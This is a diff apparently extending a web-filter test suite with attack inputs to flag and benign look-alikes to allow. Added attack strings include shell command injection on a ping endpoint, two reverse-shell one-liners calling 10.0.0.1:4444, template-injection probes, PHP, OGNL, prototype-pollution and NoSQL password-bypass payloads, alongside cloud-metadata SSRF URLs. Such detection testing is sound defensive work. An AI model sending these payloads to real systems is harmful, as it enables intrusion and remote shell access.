@@ -121,6 +121,30 @@ SPELLINGS = [
     "/v1/img?src=" + quote("http://[::ffff:169.254.169.254]/"),
     "/v1/img?src=" + quote("http://[fd00:ec2::254]/"),
     "/v1/img?src=" + quote("http://100.100.100.200/latest/meta-data/"),
+    # command injection after an address, a substitution or a backquote; reverse shells
+    "/v1/ping?host=" + quote("127.0.0.1;id"),
+    "/v1/ping?host=" + quote("$(whoami)"),
+    "/v1/ping?host=" + quote("x|uname -a"),
+    "/v1/ping?host=" + quote("x && whoami"),
+    "/v1/ping?host=" + quote("8.8.8.8;sleep 10"),
+    "/v1/ping?host=" + quote("x|ping -c 10 127.0.0.1"),
+    "/v1/ping?host=" + quote("`id`"),
+    "/v1/ping?host=" + quote("1.1.1.1|nc -e /bin/sh 10.0.0.1 4444"),
+    "/v1/ping?host=" + quote("x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+    # template injection: the engines' arithmetic probe, the dunder walk
+    "/v1/render?name=" + quote("{{7*7}}"),
+    "/v1/render?name=" + quote("{{7*'7'}}"),
+    "/v1/render?name=" + quote("${7*7}"),
+    "/v1/render?name=" + quote("#{7*7}"),
+    "/v1/render?name=" + quote("<%= 7*7 %>"),
+    "/v1/render?name=" + quote("{{''.__class__.__mro__[1].__subclasses__()}}"),
+    # PHP, Windows files, OGNL, prototype pollution, NoSQL operators on a password
+    "/v1/x?q=" + quote(";phpinfo();"),
+    "/v1/x?f=" + quote("C:\\windows\\win.ini"),
+    "/v1/x?q=" + quote("%{(#a=1)}"),
+    "/v1/x?__proto__[admin]=1",
+    "/v1/x?constructor[prototype][admin]=1",
+    "/v1/login?username=admin&password[$ne]=x",
 ]
 
 
@@ -142,6 +166,17 @@ HONEST = [
     "/v1/hosts?ip=169.254.1.7",  # another link-local address
     "/v1/hosts?ip=10.169.254.169",
     "/v1/releases/latest/api/tokens",
+    # shell and template look-alikes: pipe-separated lists, jQuery, placeholders, Strapi's filters
+    "/v1/items?fields=" + quote("name|id") + "&sort=" + quote("price|desc"),
+    "/v1/items?fields=" + quote("ip;hostname"),
+    "/v1/search?q=" + quote("$(document).ready"),
+    "/v1/search?q=" + quote("whoami song"),
+    "/v1/mail/preview?body=" + quote("Hello {{ first_name }}, your total is {{ total }}"),
+    "/v1/render?name=" + quote("${name}"),
+    "/v1/calc?expr=" + quote("7*7"),
+    "/v1/search?q=" + quote("how to use __class__ in python"),
+    "/v1/articles?filters[title][$ne]=draft&filters[price][$gt]=10",
+    "/v1/search?q=" + quote("c:\\users\\me\\docs"),
 ]
 
 
